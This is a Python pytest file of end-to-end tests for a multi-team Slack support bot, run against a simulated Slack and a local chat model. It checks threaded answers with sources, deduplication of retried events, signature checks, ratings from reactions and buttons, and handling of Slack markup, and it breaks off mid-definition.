"""The Slack bot end to end: real bolt, real slack_sdk clients, a local Slack over HTTP and
websockets, the real store and embedder, and a local OpenAI-compatible chat model.

Events reach the bot as signed HTTP requests (Events API mode) or over Socket Mode; the tests
assert what the bot posted to the Slack simulator.
"""

from __future__ import annotations

import asyncio
import copy
import json
import socket
import time
import unicodedata
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from aiohttp import web
from sqlmodel import Session, select

from bot.channels import ChannelSettings
from bot.decide import ChannelMode
from bot.slack.app import PLACEHOLDER, SlackBot, slack_web_client
from feedback.models import Interaction, Rating, Signal
from retrieval.workspaces import IdentityKind
from supportbot.app import App
from tests.conftest import REPO, SAMPLE_KB, make_settings
from tests.servers.openai_chat import OpenAIChatSimulator, default_responder
from tests.servers.slack import (
    SlackSimulator,
    event_envelope,
    load_shared_fixture,
    signed_event_request,
    signed_interactive_request,
)

pytestmark = pytest.mark.slow

SECRET = "test-signing-secret"
ACME, GLOBEX = "T111", "T222"
BOT_USER = "W111"
TOKEN = "xoxb-t111"


@pytest.fixture(scope="module")
def llm_server() -> Iterator[OpenAIChatSimulator]:
    with OpenAIChatSimulator(api_key="k") as server:
        yield server


@pytest.fixture(autouse=True)
def llm(llm_server: OpenAIChatSimulator) -> OpenAIChatSimulator:
    """The module's chat server, reset for every test (faults one test left do not leak)."""
    llm_server.reset_faults()
    llm_server.responder = default_responder
    return llm_server


@pytest.fixture(scope="module")
def kb_app(
    weaviate_data_dir: Path,
    tmp_path_factory: pytest.TempPathFactory,
    embedder: Any,
    llm_server: OpenAIChatSimulator,
) -> Iterator[App]:
    """Two customers: acme (the sample help center) on T111, globex (one page) on T222."""
    folder = tmp_path_factory.mktemp("slack-bot")
    settings = make_settings(
        weaviate_data_dir, folder / "db.sqlite", llm_model="sim", llm_base_url=llm_server.base_url,
        llm_api_key="k", llm_timeout_s=2,
    )  # fmt: skip
    globex_doc = folder / "globex.md"
    globex_doc.write_text(
        "# Globex shipping\n\nGlobex ships rocket parts within 2 business days.\n",
        encoding="utf-8",
    )
    with App(settings, local_embedder=embedder) as application:
        kb = application.knowledge
        kb.create_workspace("acme", [(IdentityKind.SLACK_TEAM, ACME)])
        kb.ingest_paths("acme", [SAMPLE_KB / "en", SAMPLE_KB / "ko"])
        kb.create_workspace("globex", [(IdentityKind.SLACK_TEAM, GLOBEX)])
        kb.ingest_paths("globex", [globex_doc])
        kb.create_workspace("empty", [(IdentityKind.SLACK_TEAM, "T333")])
        # A second team without knowledge: the setup notice goes once per team, so a test of
        # how it is sent needs a team no other test has asked from.
        kb.create_workspace("empty2", [(IdentityKind.SLACK_TEAM, "T334")])
        # An Enterprise Grid org: every team of E100 belongs to one workspace.
        kb.create_workspace("grid", [(IdentityKind.SLACK_ENTERPRISE, "E100")])
        kb.ingest_paths("grid", [globex_doc])
        yield application


_simulators = iter(range(1, 1_000))


@pytest.fixture
def slack() -> Iterator[SlackSimulator]:
    # Message ts are unique per channel in Slack; the tests share one database, so each
    # simulator starts its ts at a different (reproducible) second.
    with SlackSimulator(ts_start=1_710_000_000 + 10_000 * next(_simulators)) as sim:
        sim.add_workspace(ACME, TOKEN, bot_user_id=BOT_USER, bot_id="B111")
        sim.add_app_token("xapp-test")
        yield sim


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


class HttpBot:
    """The bot served over HTTP like `supportbot run --slack-http`, and a way to post to it."""

    def __init__(self, url: str) -> None:
        self.url = url

    async def post(self, body: dict[str, Any] | str, **kw: Any) -> httpx.Response:
        raw, headers = signed_event_request(body, SECRET, **kw)
        async with httpx.AsyncClient() as client:
            return await client.post(self.url, content=raw, headers=headers)

    async def click(self, payload: dict[str, Any]) -> httpx.Response:
        raw, headers = signed_interactive_request(payload, SECRET)
        async with httpx.AsyncClient() as client:
            return await client.post(self.url, content=raw, headers=headers)


@pytest.fixture
async def http_bot(kb_app: App, slack: SlackSimulator) -> AsyncIterator[HttpBot]:
    bot = SlackBot(
        kb_app.conversations,
        client=slack_web_client(token=TOKEN, api_url=slack.base_url),
        signing_secret=SECRET,
    )
    port = _free_port()
    runner = web.AppRunner(bot.app.web_app(path="/slack/events", port=port))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    yield HttpBot(f"http://127.0.0.1:{port}/slack/events")
    await runner.cleanup()


_counter = iter(range(1, 10_000))


def mention(
    text: str,
    *,
    team: str = ACME,
    channel: str = "C111",
    ts: str | None = None,
    event_id: str | None = None,
    thread_ts: str | None = None,
) -> dict[str, Any]:
    """A real app_mention payload from Bolt's own tests, with our text and ids."""
    body = load_shared_fixture("scenario_tests__test_app__app_mention_event_body__L334")
    body.pop("enterprise_id", None)
    n = next(_counter)
    event = body["event"]
    event.update(
        {
            "text": f"<@{BOT_USER}> {text}",
            "team": team,
            "channel": channel,
            "ts": ts or f"1700001{n:03d}.000100",
            "user": "U222",
        }
    )
    event["event_ts"] = event["ts"]
    if thread_ts:
        event["thread_ts"] = thread_ts
    return event_envelope(
        event, team_id=team, event_id=event_id or f"Ev{n:04d}", bot_user_id=BOT_USER
    )


def message(
    text: str,
    *,
    channel: str,
    channel_type: str,
    ts: str,
    thread_ts: str | None = None,
    **extra: Any,
) -> dict[str, Any]:
    event = {
        "type": "message",
        "channel": channel,
        "channel_type": channel_type,
        "user": "U222",
        "text": text,
        "ts": ts,
        "event_ts": ts,
        "team": ACME,
        **extra,
    }
    if thread_ts:
        event["thread_ts"] = thread_ts
    return event_envelope(event, team_id=ACME, event_id=f"Ev-m-{ts}", bot_user_id=BOT_USER)


async def answered(slack: SlackSimulator, count: int = 1) -> list[Any]:
    """The chat.update calls that replaced placeholders with answers."""
    return await slack.async_wait_for("chat.update", count=count, timeout=20)


async def test_mention_gets_a_placeholder_then_an_answer_with_sources_in_the_thread(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App
):
    body = mention("How long is the password reset link valid?")

    response = await http_bot.post(body)

    assert response.status_code == 200
    [update] = await answered(slack)
    [placeholder] = slack.calls_to("chat.postMessage")
    ts = body["event"]["ts"]
    assert placeholder.args["channel"] == "C111" and placeholder.args["thread_ts"] == ts
    assert placeholder.args["text"] == PLACEHOLDER
    assert update.args["channel"] == "C111"
    assert update.args["ts"] == placeholder.response["ts"]  # the placeholder became the answer
    assert (
        update.args["text"].startswith("Based on the documentation")
        and "[1]" in update.args["text"]
    )
    assert "*Sources*" in update.args["text"] and "password-and-sso.md" in update.args["text"]
    with Session(kb_app.engine) as session:
        row = session.exec(select(Interaction).where(Interaction.message_id == ts)).one()
    assert row.workspace == "acme" and row.platform == "slack" and row.thread_id == ts


async def test_the_same_event_delivered_twice_is_answered_once(
    http_bot: HttpBot, slack: SlackSimulator
):
    body = mention("What is the API rate limit?", event_id="EvDUP1")

    first = await http_bot.post(body)
    retry = await http_bot.post(body, retry_num=1, retry_reason="http_timeout")
    await answered(slack)
    await asyncio.sleep(0.5)  # give a wrongly accepted duplicate time to show up

    assert first.status_code == 200 and retry.status_code == 200
    assert len(slack.calls_to("chat.postMessage")) == 1


async def test_unsigned_or_stale_requests_get_401(http_bot: HttpBot, slack: SlackSimulator):
    body = mention("hello")
    stale = await http_bot.post(body, timestamp=int(time.time()) - 6 * 60)
    async with httpx.AsyncClient() as client:
        raw, headers = signed_event_request(body, "wrong-secret")
        forged = await client.post(http_bot.url, content=raw, headers=headers)

    assert stale.status_code == 401 and forged.status_code == 401
    assert slack.calls_to("chat.postMessage") == []


async def test_direct_message_is_answered_at_top_level(http_bot: HttpBot, slack: SlackSimulator):
    await http_bot.post(
        message(
            "세금계산서는 언제 발행되나요?",
            channel="D111",
            channel_type="im",
            ts="1700002000.000100",
        )
    )

    [update] = await answered(slack)
    [placeholder] = slack.calls_to("chat.postMessage")
    assert placeholder.args["channel"] == "D111" and "thread_ts" not in placeholder.args
    assert "결제-및-환불.md" in update.args["text"]


async def test_follow_up_in_an_answered_thread_needs_no_mention_and_gets_history(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
):
    # The messages exist in Slack as users wrote them; the events carry the same ts.
    question = slack.seed_message("C111", "U222", f"<@{BOT_USER}> How do I request a refund?")
    await http_bot.post(mention("How do I request a refund?", ts=question["ts"]))
    await answered(slack)
    follow_up = slack.seed_message(
        "C111", "U222", "and how long does it take?", thread_ts=question["ts"]
    )

    await http_bot.post(
        message(
            "and how long does it take?",
            channel="C111",
            channel_type="channel",
            ts=follow_up["ts"],
            thread_ts=question["ts"],
        )
    )

    updates = await answered(slack, count=2)
    assert slack.calls_to("conversations.replies")
    placeholders = slack.calls_to("chat.postMessage")
    assert [p.args["thread_ts"] for p in placeholders] == [question["ts"], question["ts"]]
    condense, final = llm.chat_requests()[-2:]
    assert "standalone question" in condense["messages"][0]["content"]
    roles = [m["role"] for m in condense["messages"]]
    assert roles == ["system", "user"]  # the conversation goes in as data
    assert "How do I request a refund?" in condense["messages"][1]["content"]
    assert "Based on the documentation" in condense["messages"][1]["content"]  # the bot's answer
    assert [m["role"] for m in final["messages"]] == ["system", "user"]
    assert updates[1].args["ts"] == placeholders[1].response["ts"]


async def test_chatter_bots_and_own_messages_are_ignored(http_bot: HttpBot, slack: SlackSimulator):
    await http_bot.post(
        message("lunch anyone?", channel="C111", channel_type="channel", ts="1700004000.000100")
    )
    await http_bot.post(
        message(
            "How do refunds work?",
            channel="D111",
            channel_type="im",
            ts="1700004000.000200",
            bot_id="B999",
        )
    )
    await http_bot.post(
        message(
            "How do refunds work?",
            channel="D111",
            channel_type="im",
            ts="1700004000.000300",
            subtype="message_changed",
        )
    )
    await asyncio.sleep(1.0)
    assert slack.calls_to("chat.postMessage") == []


async def test_a_team_without_knowledge_gets_one_setup_message(
    http_bot: HttpBot, slack: SlackSimulator
):
    await http_bot.post(mention("hello?", team="T333"))
    await http_bot.post(mention("anyone there?", team="T333"))
    await http_bot.post(mention("helloooo", team="T999"))  # no workspace at all

    await slack.async_wait_for("chat.postMessage", count=2, timeout=10)
    await asyncio.sleep(0.5)
    texts = [c.args["text"] for c in slack.calls_to("chat.postMessage")]
    assert len(texts) == 2 and all("not set up" in t for t in texts)


async def test_each_team_is_answered_from_its_own_workspace_only(
    http_bot: HttpBot, slack: SlackSimulator
):
    await http_bot.post(mention("How fast do you ship rocket parts?", team=GLOBEX))
    await http_bot.post(mention("How fast do you ship rocket parts?", team=ACME))

    updates = await answered(slack, count=2)
    by_thread = {u.args["ts"]: u.args["text"] for u in updates}
    texts = sorted(by_thread.values(), key=lambda t: "globex.md" in t)
    assert "globex.md" in texts[1] and "2 business days" in texts[1]
    assert "globex.md" not in texts[0] and "rocket" not in texts[0].lower()


async def test_reactions_and_buttons_become_ratings(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App
):
    await http_bot.post(mention("What is the API rate limit?", ts="1700005000.000100"))
    [update] = await answered(slack)
    answer_ts = update.args["ts"]
    assert update.args["blocks"][-1]["type"] == "context_actions"  # Slack's native 👍/👎
    reaction = load_shared_fixture("scenario_tests__test_events__valid_reaction_added_body__L112")
    reaction = copy.deepcopy(reaction)
    reaction.update({"team_id": ACME, "event_id": "EvR1"})
    reaction["event"].update(
        {
            "reaction": "+1",
            "user": "U555",
            "item": {"type": "message", "channel": "C111", "ts": answer_ts},
        }
    )

    await http_bot.post(reaction)
    removed = copy.deepcopy(reaction)
    removed["event"]["type"] = "reaction_removed"
    removed["event_id"] = "EvR2"
    thumbs_down = copy.deepcopy(reaction)
    thumbs_down["event"].update({"reaction": "-1", "user": "U666"})
    thumbs_down["event_id"] = "EvR3"
    await http_bot.post(thumbs_down)

    def ratings() -> list[int]:
        with Session(kb_app.engine) as session:
            interaction = session.exec(
                select(Interaction).where(Interaction.message_id == "1700005000.000100")
            ).one()
            return sorted(
                session.exec(select(Rating.value).where(Rating.interaction_id == interaction.id))
            )

    await _eventually(lambda: ratings() == [-1, 1])
    await http_bot.post(removed)
    await _eventually(lambda: ratings() == [-1])

    # U666 adds 👍 beside their 👎, then takes the 👎 back: the 👍 stands.
    later = float(reaction["event"]["event_ts"]) + 60
    thumbs_up = copy.deepcopy(thumbs_down)
    thumbs_up["event"].update({"reaction": "thumbsup", "event_ts": f"{later:.6f}"})
    thumbs_up["event_id"] = "EvR4"
    take_back = copy.deepcopy(thumbs_down)
    take_back["event"].update({"type": "reaction_removed", "event_ts": f"{later + 1:.6f}"})
    take_back["event_id"] = "EvR5"
    await http_bot.post(thumbs_up)
    await _eventually(lambda: ratings() == [1])
    await http_bot.post(take_back)
    await asyncio.sleep(0.5)
    assert ratings() == [1]


async def test_llm_failure_gets_an_apology_in_the_thread(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
):
    llm.fail_next(3, status=500)
    await http_bot.post(mention("What is the API rate limit?"))

    [update] = await answered(slack)
    assert update.args["text"].startswith("Sorry, I couldn't answer")


async def test_slack_429_is_retried_after_retry_after(http_bot: HttpBot, slack: SlackSimulator):
    slack.rate_limit("chat.postMessage", times=1, retry_after=1)

    await http_bot.post(mention("What is the API rate limit?"))

    await answered(slack)
    calls = slack.calls_to("chat.postMessage")
    assert len(calls) == 2
    assert calls[1].received_at - calls[0].received_at >= 0.9


async def test_socket_mode_acks_and_answers(kb_app: App, slack: SlackSimulator):
    bot = SlackBot(
        kb_app.conversations,
        client=slack_web_client(token=TOKEN, api_url=slack.base_url),
        signing_secret=None,
    )
    handler = bot.socket_mode_handler("xapp-test")
    await handler.connect_async()
    try:
        await slack.async_wait_for_connections(1)
        body = mention("How long is the password reset link valid?")
        envelope_id = await asyncio.to_thread(slack.push_event, body, envelope_id="env-1")
        await slack.async_wait_for_ack(envelope_id)
        [update] = await answered(slack)
        assert "password-and-sso.md" in update.args["text"]
        # The same event again (Slack's retry after a missed ack) is not answered twice.
        await asyncio.to_thread(
            slack.push_event, body, retry_attempt=1, retry_reason="timeout", envelope_id="env-2"
        )
        await slack.async_wait_for_ack("env-2")
        await asyncio.sleep(0.5)
        assert len(slack.calls_to("chat.postMessage")) == 1
    finally:
        await handler.close_async()


async def _eventually(check: Any, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if await asyncio.to_thread(check):
            return
        await asyncio.sleep(0.1)
    raise AssertionError("condition not met in time")


async def test_support_channel_answers_new_questions_without_a_mention(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App
):
    ChannelSettings(kb_app.engine).set_mode("slack", ACME, "C777", ChannelMode.ALL_QUESTIONS)
    question = slack.seed_message("C777", "U222", "How do I reset my password?")

    await http_bot.post(
        message(
            "How do I reset my password?", channel="C777", channel_type="channel", ts=question["ts"]
        )
    )

    [update] = await answered(slack)
    [placeholder] = slack.calls_to("chat.postMessage")
    assert placeholder.args["channel"] == "C777" and placeholder.args["thread_ts"] == question["ts"]
    assert "password-and-sso.md" in update.args["text"]


async def test_two_replicas_sharing_a_database_answer_a_delivery_once(
    kb_app: App, slack: SlackSimulator, embedder: Any
):
    """The same event reaches two bot processes (as behind a load balancer on a retry)."""
    replicas = []
    for _ in range(2):
        application = App(kb_app.settings, local_embedder=embedder)  # own engine, same DB file
        bot = SlackBot(
            application.conversations,
            client=slack_web_client(token=TOKEN, api_url=slack.base_url),
            signing_secret=SECRET,
        )
        port = _free_port()
        runner = web.AppRunner(bot.app.web_app(path="/slack/events", port=port))
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", port).start()
        replicas.append((application, runner, HttpBot(f"http://127.0.0.1:{port}/slack/events")))
    try:
        body = mention("What is the API rate limit?", event_id="EvREPLICA")
        responses = await asyncio.gather(
            replicas[0][2].post(body), replicas[1][2].post(body, retry_num=1)
        )
        await answered(slack)
        await asyncio.sleep(0.5)
        assert [r.status_code for r in responses] == [200, 200]
        assert len(slack.calls_to("chat.postMessage")) == 1
    finally:
        for application, runner, _ in replicas:
            await runner.cleanup()
            application.close()


async def test_socket_mode_reconnects_when_slack_asks(kb_app: App, slack: SlackSimulator):
    bot = SlackBot(
        kb_app.conversations,
        client=slack_web_client(token=TOKEN, api_url=slack.base_url),
        signing_secret=None,
    )
    handler = bot.socket_mode_handler("xapp-test")
    await handler.connect_async()
    try:
        await slack.async_wait_for_connections(1)
        slack.send_disconnect("refresh_requested")
        await slack.async_wait_for("apps.connections.open", count=2, timeout=15)
        await slack.async_wait_for_connections(2)
        envelope = await asyncio.to_thread(
            slack.push_event, mention("What is the API rate limit?"), envelope_id="env-after"
        )
        await slack.async_wait_for_ack(envelope)
        [update] = await answered(slack)
        assert "api-and-limits.md" in update.args["text"]
    finally:
        await handler.close_async()


async def test_manifest_subscribes_only_to_events_the_bot_handles(http_bot: HttpBot):
    """Every subscribed event reaches a listener (bolt answers 404 to one nobody handles)."""
    manifest = yaml.safe_load((REPO / "manifest.yml").read_text())
    events = manifest["settings"]["event_subscriptions"]["bot_events"]
    scopes = set(manifest["oauth_config"]["scopes"]["bot"])
    statuses = {}
    for n, name in enumerate(events):
        event_type = name.split(".")[0]  # message.channels/groups/im/mpim arrive as "message"
        inner = {
            "type": event_type,
            "event_ts": "1700000000.000001",
            "ts": "1700000000.000001",
            "channel": "C0",
            "user": "U0",
            "text": "",
            "subtype": "ignored_subtype",
            "item": {"type": "file"},
            "reaction": "eyes",
            "tokens": {},
            # assistant_thread_* events always name their thread (bolt needs it)
            "assistant_thread": {"user_id": "U0", "channel_id": "D0", "thread_ts": "1.2"},
        }
        body = event_envelope(
            inner, team_id="T000", event_id=f"EvManifest{n}", bot_user_id=BOT_USER
        )
        statuses[name] = (await http_bot.post(body)).status_code
    assert statuses == dict.fromkeys(events, 200)
    assert scopes == {
        "app_mentions:read", "chat:write", "channels:history", "groups:history",
        "im:history", "mpim:history", "reactions:read", "assistant:write", "commands",
        "usergroups:read", "users:read",
    }  # fmt: skip
    assert manifest["settings"]["interactivity"]["is_enabled"] is True


async def test_a_model_timeout_is_acked_at_once_and_apologised_for_later(
    http_bot: HttpBot, slack: SlackSimulator, llm: OpenAIChatSimulator
):
    llm.latency = 4.0  # longer than LLM_TIMEOUT_S=2 in these tests: every attempt times out
    try:
        started = time.monotonic()
        response = await http_bot.post(mention("What is the API rate limit?"))
        acked_after = time.monotonic() - started

        assert response.status_code == 200 and acked_after < 2.0  # Slack wants < 3 s
        [update] = await answered(slack)
        assert update.args["text"].startswith("Sorry, I couldn't answer")
        assert time.monotonic() - started >= 2.0
    finally:
        llm.latency = 0.0


async def test_enterprise_grid_teams_route_to_the_org_workspace(
    http_bot: HttpBot, slack: SlackSimulator
):
    body = mention("How fast do you ship rocket parts?", team="T444")
    body["enterprise_id"] = "E100"

    await http_bot.post(body)

    [update] = await answered(slack)
    assert "globex.md" in update.args["text"]


async def test_helpful_buttons_rate_the_answer(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App
):
    question_ts = "1700006000.000100"
    await http_bot.post(mention("What is the API rate limit?", ts=question_ts))
    [update] = await answered(slack)

    def click(action_id: str, user: str) -> dict[str, Any]:
        return {
            "type": "block_actions", "team": {"id": ACME}, "user": {"id": user},
            "channel": {"id": "C111"}, "api_app_id": "A111", "trigger_id": "1.2.3",
            "container": {"type": "message", "message_ts": update.args["ts"],
                          "channel_id": "C111"},
            "message": {"ts": update.args["ts"], "text": update.args["text"]},
            "actions": [{"action_id": action_id, "block_id": "b", "type": "button",
                         "value": "1", "action_ts": "1700006001.000000"}],
        }  # fmt: skip

    def ratings() -> list[tuple[int, str]]:
        with Session(kb_app.engine) as session:
            interaction = session.exec(
                select(Interaction).where(Interaction.message_id == question_ts)
            ).one()
            rows = session.exec(select(Rating).where(Rating.interaction_id == interaction.id))
            return sorted((r.value, r.source) for r in rows)

    first = await http_bot.click(click("feedback_helpful", "U1"))
    await http_bot.click(click("feedback_not_helpful", "U2"))
    await _eventually(lambda: ratings() == [(-1, "button"), (1, "button")])
    await http_bot.click(click("feedback_helpful", "U2"))  # changed their mind

    assert first.status_code == 200
    await _eventually(lambda: ratings() == [(1, "button"), (1, "button")])


async def test_thread_replies_are_handed_to_the_knowledge_sync(kb_app: App, slack: SlackSimulator):
    """Every human reply in a thread of a mapped team reaches the sync hook (its Q&A document
    may have changed); a failing hook does not stop the bot."""
    seen: list[tuple[str, str, str]] = []

    async def hook(workspace: str, channel: str, thread_ts: str) -> None:
        seen.append((workspace, channel, thread_ts))
        if len(seen) == 2:
            raise RuntimeError("queue down")

    bot = SlackBot(
        kb_app.conversations,
        client=slack_web_client(token=TOKEN, api_url=slack.base_url),
        signing_secret=SECRET,
        on_thread_reply=hook,
    )
    port = _free_port()
    runner = web.AppRunner(bot.app.web_app(path="/slack/events", port=port))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    poster = HttpBot(f"http://127.0.0.1:{port}/slack/events")
    try:
        root = "1700009000.000100"
        for n, text in enumerate(["thanks, that worked", "also: refunds?", "ok"], start=1):
            await poster.post(
                message(text, channel="C444", channel_type="channel",
                        ts=f"170000900{n}.000200", thread_ts=root)
            )  # fmt: skip
        await poster.post(  # a new top-level message is no thread reply
            message("hello", channel="C444", channel_type="channel", ts="1700009009.000300")
        )
        await _eventually(lambda: len(seen) == 3)
        await asyncio.sleep(0.3)
    finally:
        await runner.cleanup()

    assert seen == [("acme", "C444", root)] * 3


# --- incoming text and when to answer (shared cases in ../shared/cases) -----------------------

CASES = REPO.parent / "shared" / "cases"
_case_ts = iter(range(1, 10_000))


def _fresh_ts() -> str:
    """A message ts no other test uses (the message identity is claimed in a shared DB)."""
    return f"1720{next(_case_ts):06d}.000100"


def _case_events(name: str, **stamps: str) -> list[dict[str, Any]]:
    """A case's Slack events with our bot, team and the given ``<T>``-style stamps filled in."""
    raw = (CASES / name / "events.json").read_text(encoding="utf-8")
    for key, value in sorted(stamps.items(), key=lambda kv: -len(kv[0])):
        raw = raw.replace(f"<{key}>", value)
    raw = raw.replace("U0BOT", BOT_USER).replace("T0ACME", ACME)
    return [dict(e) for e in json.loads(raw)]


def _envelope(event: dict[str, Any], event_id: str) -> dict[str, Any]:
    return event_envelope(event, team_id=ACME, event_id=event_id, bot_user_id=BOT_USER)


def _stored(app: App, message_ts: str) -> Interaction | None:
    with Session(app.engine) as session:
        return session.exec(select(Interaction).where(Interaction.message_id == message_ts)).first()


def _signals(app: App, interaction_id: int | None) -> list[Signal]:
    with Session(app.engine) as session:
        return list(session.exec(select(Signal).where(Signal.interaction_id == interaction_id)))


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        # the shared case
        (
            (CASES / "slack-escaped-text" / "slack_event_text.txt").read_text("utf-8").strip(),
            "Can I use <b> tags & emoji in saved replies? see status.example.com",
        ),
        # variants: NFD Korean with a channel link and entities; mentions, mailto and a bare URL
        (
            unicodedata.normalize(
                "NFD", "<@U0BOT> <#C0SUP|지원> 채널: &lt;세금계산서&gt; 발행 &amp; 취소는?"
            ),
            "#지원 채널: <세금계산서> 발행 & 취소는?",
        ),
        (
            "<@U0BOT> <@U0ALICE|alice> says the "
            "<https://help.example/reset?a=1&amp;b=2|reset link> "
            "from <mailto:it@example.com|IT> expires &gt; 1h?",
            "@alice says the reset link from IT expires > 1h?",
        ),
    ],
)  # fmt: skip
async def test_slack_text_is_stored_and_searched_as_plain_text(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App, llm: OpenAIChatSimulator,
    text: str, plain: str,
):  # fmt: skip
    llm.clear_requests()
    ts = _fresh_ts()
    event = {
        "type": "app_mention", "user": "U0ALICE", "channel": "C0SUP", "channel_type": "channel",
        "team": ACME, "ts": ts, "event_ts": ts, "text": text.replace("U0BOT", BOT_USER),
    }  # fmt: skip

    await http_bot.post(_envelope(event, f"EvEsc{ts}"))

    await answered(slack)
    await _eventually(lambda: _stored(kb_app, ts) is not None)
    row = _stored(kb_app, ts)
    assert row is not None
    assert row.question == plain and row.standalone_question == plain
    sent = json.dumps(llm.chat_requests(), ensure_ascii=False)
    assert plain.split(":")[-1].strip() in sent.replace('\\"', '"')  # what the model was asked
    assert "&lt;" not in sent and "&amp;" not in sent and f"<@{BOT_USER}>" not in sent


async def test_an_edited_mention_is_answered_once(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App
):
    """The shared case: Slack re-sends the mention after an edit, same ts, new event_id."""
    ts = _fresh_ts()
    edit_ts = f"{float(ts) + 5:.6f}"
    first, edited = _case_events("slack-edited-mention", **{"T": ts, "T+5": edit_ts})

    await http_bot.post(_envelope(first, f"EvEdit1-{ts}"))
    await answered(slack)
    await http_bot.post(_envelope(edited, f"EvEdit2-{ts}"))
    await asyncio.sleep(1.0)

    assert len(slack.calls_to("chat.postMessage")) == 1
    assert len(slack.calls_to("chat.update")) == 1
    row = _stored(kb_app, ts)
    assert row is not None and row.question == "how long is the pasword reset link valid?"


async def test_an_edit_arriving_before_the_answer_makes_no_second_answer(
    http_bot: HttpBot, slack: SlackSimulator
):
    ts = _fresh_ts()
    first, edited = _case_events("slack-edited-mention", **{"T": ts, "T+5": ts})

    await asyncio.gather(
        http_bot.post(_envelope(first, f"EvEarly1-{ts}")),
        http_bot.post(_envelope(edited, f"EvEarly2-{ts}")),
    )
    await answered(slack)
    await asyncio.sleep(1.0)

    assert len(slack.calls_to("chat.postMessage")) == 1


async def test_message_changed_events_of_an_answered_message_are_not_answered(
    http_bot: HttpBot, slack: SlackSimulator
):
    ts = _fresh_ts()
    await http_bot.post(mention("What is the API rate limit?", ts=ts, channel="C0SUP"))
    await answered(slack)
    changed = {
        "type": "message", "subtype": "message_changed", "channel": "C0SUP",
        "channel_type": "channel", "hidden": True, "ts": f"{float(ts) + 9:.6f}",
        "event_ts": f"{float(ts) + 9:.6f}",
        "message": {"type": "message", "user": "U222", "ts": ts, "team": ACME,
                    "text": f"<@{BOT_USER}> What is the API rate limit now?",
                    "edited": {"user": "U222", "ts": f"{float(ts) + 9:.6f}"}},
        "previous_message": {"type": "message", "user": "U222", "ts": ts,
                             "text": f"<@{BOT_USER}> What is the API rate limit?"},
    }  # fmt: skip
    dm_changed = {**changed, "channel": "D0EDIT", "channel_type": "im"}

    await http_bot.post(_envelope(changed, f"EvChanged-{ts}"))
    await http_bot.post(_envelope(dm_changed, f"EvChangedDm-{ts}"))
    await asyncio.sleep(1.0)

    assert len(slack.calls_to("chat.postMessage")) == 1


@pytest.mark.parametrize("thanks", ["thanks 👍", "고마워요", "got it, cheers :pray:"])
async def test_thanks_in_a_followed_thread_is_a_signal_not_an_answer(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App, llm: OpenAIChatSimulator, thanks: str
):
    q, a = _fresh_ts(), _fresh_ts()
    question, reply = _case_events("slack-thread-thanks", Q=q, A=a)
    reply["text"] = thanks

    await http_bot.post(_envelope(question, f"EvQ-{q}"))
    await answered(slack)
    asked = len(llm.chat_requests())
    body = _envelope(reply, f"EvThanks-{a}")
    await http_bot.post(body)
    await http_bot.post(body, retry_num=1, retry_reason="http_timeout")  # counted once

    row = _stored(kb_app, q)
    assert row is not None
    await _eventually(lambda: len(_signals(kb_app, row.id)) == 1)
    await asyncio.sleep(0.5)
    [signal] = _signals(kb_app, row.id)
    assert signal.kind == "acknowledgement" and signal.weight == 1.0
    assert signal.workspace == "acme" and signal.platform == "slack" and signal.user_hash
    assert len(slack.calls_to("chat.postMessage")) == 1  # no second answer, no prompt
    assert len(llm.chat_requests()) == asked  # nothing retrieved or asked of the model


async def test_thanks_with_a_question_in_a_followed_thread_is_answered(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App
):
    q, a = _fresh_ts(), _fresh_ts()
    question, reply = _case_events("slack-thread-thanks", Q=q, A=a)
    reply["text"] = "thanks, but how do I reset my password?"

    await http_bot.post(_envelope(question, f"EvQ2-{q}"))
    await answered(slack)
    await http_bot.post(_envelope(reply, f"EvQ2b-{a}"))

    await answered(slack, count=2)  # a question: answered (retrieval and the model)
    await _eventually(lambda: _stored(kb_app, a) is not None)
    follow_up, row = _stored(kb_app, a), _stored(kb_app, q)
    assert follow_up is not None and follow_up.question == reply["text"]
    assert row is not None and _signals(kb_app, row.id) == []


@pytest.mark.parametrize(
    ("text", "where"),
    [
        *[(q, "im") for q in (CASES / "empty-meaning-queries" / "queries.txt")
          .read_text("utf-8").splitlines()],
        (":fire::fire: :eyes:", "im"),
        ("?!…", "im"),
        (f"<@{BOT_USER}> 🔥🔥", "mention"),
        (f"<@{BOT_USER}> <@U0ALICE|alice> <#C0SUP|support>", "mention"),
    ],
)  # fmt: skip
async def test_a_message_without_words_gets_a_prompt_not_a_retrieved_answer(
    http_bot: HttpBot, slack: SlackSimulator, kb_app: App, llm: OpenAIChatSimulator,
    text: str, where: str,
):  # fmt: skip
    llm.clear_requests()
    ts = _fresh_ts()
    if where == "im":
        body = message(text, channel="D0EMPTY", channel_type="im", ts=ts)
    else:
        body = mention(text.removeprefix(f"<@{BOT_USER}> "), ts=ts, channel="C0SUP")

    await http_bot.post(body)

    [prompt] = await slack.async_wait_for("chat.postMessage", timeout=10)
    await asyncio.sleep(0.5)
    assert prompt.args["text"].startswith("What would you like to know?")
    assert "무엇이 궁금하신가요?" in prompt.args["text"]  # no language shown: both
    assert slack.calls_to("chat.update") == [] and llm.chat_requests() == []
    assert _stored(kb_app, ts) is None
    if where == "mention":
        assert prompt.args["thread_ts"] == ts


_RICH_QUESTION = [
    {"type": "rich_text", "block_id": "q1", "elements": [
        {"type": "rich_text_section", "elements": [
            {"type": "text", "text": "How long is the "},
            {"type": "text", "text": "password reset link", "style": {"bold": True}},
            {"type": "text", "text": " valid? "},
            {"type": "emoji", "name": "pray", "unicode": "1f64f"},
        ]},
    ]},
]  # fmt: skip
_FORWARD = {
